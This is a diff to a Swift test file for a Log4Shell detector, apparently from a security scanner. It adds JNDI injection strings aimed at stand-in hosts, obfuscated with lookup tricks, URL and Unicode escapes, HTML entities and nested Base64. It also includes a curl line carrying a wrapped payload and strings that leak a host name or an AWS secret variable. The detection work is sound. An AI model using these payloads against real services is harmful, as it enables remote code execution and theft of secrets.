@@ -37,11 +37,73 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(log4shell(base64(before + base64("${java.version} and no more than that"))) == nil)
   }
 
-  @Test func namesTheHostOfACorbaLocation() {
-    let found = log4shell("${jndi:corbaloc::198.51.100.7:1050/a}")
+  @Test(arguments: [
+    "${jndi:corbaloc::198.51.100.7:1050/a}", "${jndi:corbaloc:iiop:1.2@198.51.100.7:1050/a}",
+    "${jndi:corbaname:iiop:198.51.100.7:1050#a}", "${jndi:corba:iiop://198.51.100.7:1050/a}",
+    "${jndi:ldap://user:word@198.51.100.7:1050/a}",
+  ])
+  func namesTheHostBehindAProtocolOrALogin(text: String) {
+    let found = log4shell(text)
     #expect(found?.host == "198.51.100.7")
     #expect(found?.port == 1050)
   }
+
+  /// UTF-16 whose zeros were escaped, escapes in UTF-16, hexadecimal digits, and Base64 of an encoding.
+  @Test(arguments: [
+    "$\\u0000{\\u0000j\\u0000n\\u0000d\\u0000i\\u0000:\\u0000l\\u0000d\\u0000a\\u0000p\\u0000:\\u0000/\\u0000/\\u0000h\\u0000/\\u0000a\\u0000}\\u0000",
+    "%24%00%7B%00j%00n%00d%00i%00:%00l%00d%00a%00p%00:%00/%00/%00h%00/%00a%00}",
+    "\\\0u\00\00\02\04\0{\0j\0n\0d\0i\0:\0l\0d\0a\0p\0:\0/\0/\0h\0/\0a\0}\0",
+    "body=247b6a6e64693a6c6461703a2f2f682f617d", "body=247B247B6C6F7765723A6A7D6E64693A6C6461703A2F2F682F617D",
+    base64("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D"), base64("-\\u0024\\u007bjndi:ldap://h/a}"),
+    base64(base64("-${${lower:j}ndi:ldap://h/a}")), base64("-${${lower:j}ndi:ldap://h/a}"),
+    base64(base64("--${jndi:ldap://h/a}")), "\\u0025\\u0032\\u0034{jndi:ldap://h/a}",
+  ])
+  func readsEncodingsWithinEachOther(text: String) {
+    let found = log4shell(text)
+    #expect(found?.scheme == "ldap")
+    #expect(found?.host == "h")
+  }
+
+  /// In a command every wrapping is undone, to any depth.
+  @Test func readsWhatACommandWraps() {
+    var text = "${jndi:ldap://h.example/a}"
+    for _ in 0..<3 { text = base64("x " + text) }
+    let found = "curl -d \(text) http://a.example".withView { TextDetectors.scan($0, .command) }
+    #expect(found.first { $0.kind == .log4shell }?.host == "h.example")
+  }
+
+  /// A field's limit may cut it at any byte; from the fourth letter of its name on it is one.
+  @Test(arguments: [
+    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://h.example:1389/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h.example:1389/a}",
+    "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%3A1389%2Fa%7D",
+    "\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069\\u003a\\u006c\\u0064\\u0061\\u0070\\u003a//h.example/a}",
+    "&#36;&#123;&#106;&#110;&#100;&#105;&#58;&#108;&#100;&#97;&#112;&#58;//h.example/a}",
+  ])
+  func survivesACut(text: String) {
+    let bytes = Array(text.utf8)
+    let first = (1...bytes.count).first { log4shell(String(decoding: bytes[..<$0], as: UTF8.self)) != nil } ?? 0
+    #expect(first < bytes.count * 2 / 3)
+    for end in first...bytes.count {
+      #expect(log4shell(String(decoding: bytes[..<end], as: UTF8.self)) != nil, "\(end)")
+    }
+  }
+
+  @Test func aBraceTooManyIsStillMeant() {
+    let found = log4shell("${${lower:jndi}:${lower:rmi}}://h.example:1099/a}")
+    #expect(found?.scheme == "rmi")
+    #expect(found?.host == "h.example")
+    #expect(found?.port == 1099)
+  }
+
+  /// What stands behind an open payload is the line's.
+  @Test func anOpenPayloadLeaksOnlyWhatItNames() {
+    #expect(log4shell("{\"ua\":\"${jndi:ldap://${hostName}.h.example/x\",\"b\":\"${c}\"}")?.leaks == ["hostName"])
+    #expect(log4shell("${jndi:ldap://${env:AWS_SECRET_A")?.leaks == [])
+  }
+
+  @Test(arguments: ["echo ${JNDI:-ldap://h.example:389/}", "${jndi:-ldap://h.example/a}", "${jndi:ldap} and more"])
+  func aNameWithADefaultIsNone(text: String) { #expect(log4shell(text) == nil) }
 
   @Test(arguments: ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"])
   func knowsEveryScheme(scheme: String) { #expect(log4shell("${jndi:\(scheme)://a.example/x}")?.scheme == scheme) }
